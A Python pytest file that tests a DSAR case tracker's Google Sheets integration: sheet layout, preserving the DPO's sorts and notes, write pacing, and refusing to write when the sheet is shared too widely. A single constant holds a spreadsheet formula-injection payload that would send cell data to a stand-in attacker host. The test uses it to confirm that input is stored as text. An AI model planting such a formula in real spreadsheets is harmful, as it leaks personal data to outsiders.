"""The tracker against the sandbox over HTTP, written with real gspread through the audited seam and read
back with the real Sheets/Drive clients, as the DPO would see it in Google Sheets."""
from __future__ import annotations

import datetime as dt
import logging

import pytest

from addon.cases.lifecycle import STATUSES
from addon.tracker import TrackerSharingError, init_tracker, load_config, open_writer, tracker_update, writer
from addon.tracker.schema import COLUMNS, MONTHLY_COLUMNS, col_letter, from_serial

HOSTILE = '=HYPERLINK("https://evil.example/?q="&A1,"Jane Doe")'


def grid(env, spreadsheet_id: str, rng: str = "Tracker") -> dict:
    return env.google("sheets").spreadsheets().get(spreadsheetId=spreadsheet_id, ranges=[rng],
                                                   includeGridData=True).execute()["sheets"][0]


def rows(env, spreadsheet_id: str) -> list[list]:
    resp = env.google("sheets").spreadsheets().values().get(
        spreadsheetId=spreadsheet_id, range="Tracker", valueRenderOption="UNFORMATTED_VALUE").execute()
    return resp.get("values", [])


def by_ref(table: list[list]) -> dict[str, dict]:
    header = table[0]
    return {r[0]: dict(zip(header, r + [""] * (len(header) - len(r)))) for r in table[1:] if r and r[0]}


def test_init_lays_out_the_sheet_for_the_dpo(env):
    services = env.services()
    case = env.open_case(services, names=(HOSTILE,), received=dt.date(2026, 3, 2))
    cfg, created, report = init_tracker(services, env.dpo)
    assert created and report.added == [case.ref]
    assert load_config(env.home).spreadsheet_id == cfg.spreadsheet_id

    meta = env.google("sheets").spreadsheets().get(spreadsheetId=cfg.spreadsheet_id).execute()
    assert [s["properties"]["title"] for s in meta["sheets"]] == ["Tracker", "Monthly"]
    tracker = grid(env, cfg.spreadsheet_id, f"Tracker!A1:{col_letter(len(COLUMNS) - 1)}3")
    assert tracker["properties"]["gridProperties"]["frozenRowCount"] == 1
    (prot,) = tracker["protectedRanges"]
    assert prot["range"]["startRowIndex"] == 0 and prot["range"]["endRowIndex"] == 1
    assert prot.get("warningOnly", False) is False and prot["editors"]["users"] == [env.dpo]
    formulas = [r["booleanRule"]["condition"] for r in tracker["conditionalFormats"]]
    assert [c["type"] for c in formulas] == ["CUSTOM_FORMULA", "CUSTOM_FORMULA"]
    assert "<TODAY()" in formulas[0]["values"][0]["userEnteredValue"]
    assert "-TODAY()<=7" in formulas[1]["values"][0]["userEnteredValue"]

    data = tracker["data"][0]["rowData"]
    assert [v["formattedValue"] for v in data[0]["values"]] == list(COLUMNS)
    row = data[1]["values"]
    subject = row[COLUMNS.index("Subject")]
    assert subject["userEnteredValue"] == {"stringValue": HOSTILE}  # stored as text, never a formula
    assert "formulaValue" not in subject["userEnteredValue"]
    status = row[COLUMNS.index("Status")]
    assert status["dataValidation"]["condition"]["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in status["dataValidation"]["condition"]["values"]] == list(STATUSES)
    assert row[COLUMNS.index("Due")]["formattedValue"] == "2026-04-02"
    assert row[COLUMNS.index("Received")]["effectiveValue"] == {"numberValue": 46083}

    monthly = rows_of_tab(env, cfg.spreadsheet_id, "Monthly")
    assert monthly[0] == list(MONTHLY_COLUMNS) and monthly[1][:2] == ["2026-03", 1]

    again, created_again, _ = init_tracker(services, env.dpo)
    assert not created_again and again.spreadsheet_id == cfg.spreadsheet_id


def rows_of_tab(env, spreadsheet_id: str, tab: str) -> list[list]:
    return env.google("sheets").spreadsheets().values().get(
        spreadsheetId=spreadsheet_id, range=tab, valueRenderOption="UNFORMATTED_VALUE").execute().get("values", [])


def _sort_by_subject_desc(env, cfg) -> None:
    env.google("sheets").spreadsheets().batchUpdate(spreadsheetId=cfg.spreadsheet_id, body={"requests": [
        {"sortRange": {"range": {"sheetId": cfg.tracker_sheet_id, "startRowIndex": 1, "startColumnIndex": 0,
                                 "endColumnIndex": len(COLUMNS)},
                       "sortSpecs": [{"dimensionIndex": COLUMNS.index("Subject"), "sortOrder": "DESCENDING"}]}}]}).execute()


def test_update_after_the_dpo_sorts_and_writes_notes(env):
    services = env.services()
    cases = [env.open_case(services, names=(n,)) for n in ("Alice Adams", "Bob Brown", "Carol Clark")]
    cfg, _, _ = init_tracker(services, env.dpo)
    table = rows(env, cfg.spreadsheet_id)
    notes_col = chr(ord("A") + COLUMNS.index("Notes"))
    people = env.google("sheets")
    for n, row in enumerate(table[1:], start=2):  # the DPO's own notes, one per row
        people.spreadsheets().values().update(
            spreadsheetId=cfg.spreadsheet_id, range=f"Tracker!{notes_col}{n}", valueInputOption="USER_ENTERED",
            body={"values": [[f"note for {row[0]}"]]}).execute()
    _sort_by_subject_desc(env, cfg)
    assert [r[0] for r in rows(env, cfg.spreadsheet_id)[1:]] == [c.ref for c in reversed(cases)]

    bob = cases[1]
    services.store.transition(bob.ref, "searching", env.dpo, "dpo")
    services.store.add_results(bob.ref, [
        {"source": "gmail", "account": env.dpo, "message_id": "m1", "rfc822_message_id": "<1@x>"},
        {"source": "sheets", "account": env.dpo, "file_id": "f", "name": "n", "path": "p", "sheet": "s", "row": 4}])
    report = tracker_update(services, bob.ref, strict=True)
    assert report.updated == [bob.ref] and report.added == []

    after = rows(env, cfg.spreadsheet_id)
    assert [r[0] for r in after[1:]] == [c.ref for c in reversed(cases)]  # our write did not re-order
    rows_now = by_ref(after)
    assert rows_now[bob.ref]["Status"] == "searching"
    assert rows_now[bob.ref]["Items found (Gmail)"] == 1 and rows_now[bob.ref]["Items found (Sheets)"] == 1
    for c in cases:
        assert rows_now[c.ref]["Notes"] == f"note for {c.ref}"  # each note still beside its own case
        assert rows_now[c.ref]["Subject"] == c.subject.names[0]
    assert rows_now[cases[0].ref]["Status"] == "received"


def test_sync_reports_hand_edits_and_rows_without_a_case(env):
    services = env.services()
    a, b = env.open_case(services, names=("Alice Adams",)), env.open_case(services, names=("Bob Brown",))
    cfg, _, _ = init_tracker(services, env.dpo)
    people = env.google("sheets").spreadsheets().values()
    status_col = chr(ord("A") + COLUMNS.index("Status"))
    people.update(spreadsheetId=cfg.spreadsheet_id, range=f"Tracker!{status_col}2", valueInputOption="RAW",
                  body={"values": [["closed"]]}).execute()
    people.append(spreadsheetId=cfg.spreadsheet_id, range="Tracker!A1", valueInputOption="RAW",
                  body={"values": [["DSAR-1999-0042", "access", "someone typed this"]]}).execute()

    report = open_writer(services).write(None)
    assert report.differences == [{"ref": a.ref, "row": 2, "column": "Status", "sheet": "closed", "store": "received"}]
    assert report.orphans == [{"row": 4, "ref": "DSAR-1999-0042"}]
    assert report.updated == [a.ref] and report.unchanged == [b.ref]
    table = by_ref(rows(env, cfg.spreadsheet_id))
    assert table[a.ref]["Status"] == "received"  # the store is the source of truth for our columns
    assert table["DSAR-1999-0042"]["Subject"] == "someone typed this"  # a row we do not own is left alone


def test_writes_are_batched_and_paced(env, fresh_pacer, monkeypatch):
    services = env.services()
    cases = [env.open_case(services, names=(f"Person {chr(65 + i)} Example",)) for i in range(30)]
    before = env.last_seq()
    init_tracker(services, env.dpo)
    # 30 new rows + Monthly: header, tab setup, layout, one values.batchUpdate, one append
    assert len(env.sheet_writes(before)) == 5
    assert len(rows(env, load_config(env.home).spreadsheet_id)) == 31

    pacer = writer.WritePacer(limit=2, window=1.0)
    monkeypatch.setattr(writer, "PACER", pacer)
    start = env.last_seq()
    for c in cases[:6]:  # every status change updates its tracker row by itself (CaseStore.on_transition)
        services.store.transition(c.ref, "identity_check", env.dpo, "dpo")
    times = sorted(e["time"] for e in env.sheet_writes(start))
    sheet = by_ref(rows(env, load_config(env.home).spreadsheet_id))
    assert all(sheet[c.ref]["Status"] == "identity_check" for c in cases[:6])
    assert len(times) == 6
    # never more than 2 write requests in any 1-second window (server-side times; 0.25 s for latency jitter)
    assert all(times[i + 2] - times[i] >= 0.75 for i in range(len(times) - 2)), times
    assert pacer.waited > 1.0


def test_refuses_to_write_when_shared_with_anyone_with_the_link(env, caplog):
    services = env.services()
    case = env.open_case(services, names=("Jane Doe",))
    cfg, _, _ = init_tracker(services, env.dpo)
    env.google("drive").permissions().create(fileId=cfg.spreadsheet_id,
                                             body={"type": "anyone", "role": "reader"}).execute()
    services.store.transition(case.ref, "identity_check", env.dpo, "dpo")
    before = env.last_seq()
    with pytest.raises(TrackerSharingError) as e:
        tracker_update(services, case.ref, strict=True)
    message = str(e.value)
    assert "anyone with the link" in message and "Restricted" in message and "dsar tracker sync" in message
    with caplog.at_level(logging.WARNING, logger="dsar.tracker"):
        assert tracker_update(services, case.ref) is None
    assert "anyone with the link" in caplog.text
    assert env.sheet_writes(before) == []  # nothing personal was written
    assert by_ref(rows(env, cfg.spreadsheet_id))[case.ref]["Status"] == "received"


def test_refuses_users_outside_the_domain(env):
    services = env.services()
    env.open_case(services, names=("Jane Doe",))
    cfg, _, _ = init_tracker(services, env.dpo)
    env.google("drive").permissions().create(
        fileId=cfg.spreadsheet_id, sendNotificationEmail=False,
        body={"type": "user", "role": "writer", "emailAddress": "friend@gmail.com"}).execute()
    with pytest.raises(TrackerSharingError, match="friend@gmail.com"):
        open_writer(services).write(None)


def test_no_tracker_is_a_logged_no_op(env, caplog):
    services = env.services()
    case = env.open_case(services, names=("Jane Doe",))
    before = env.last_seq()
    with caplog.at_level(logging.INFO, logger="dsar.tracker"):
        assert tracker_update(services, case.ref) is None
    assert "not initialised" in caplog.text and case.ref in caplog.text
    assert env.log(before) == []


def test_deadline_dates_round_trip(env):
    services = env.services()
    case = env.open_case(services, names=("Jane Doe",), received=dt.date(2024, 11, 25))
    cfg, _, _ = init_tracker(services, env.dpo)
    row = by_ref(rows(env, cfg.spreadsheet_id))[case.ref]
    assert from_serial(row["Due"]) == dt.date(2024, 12, 27)  # ICO worked example: 25/26 Dec are holidays
    assert row["Extended due"] == ""
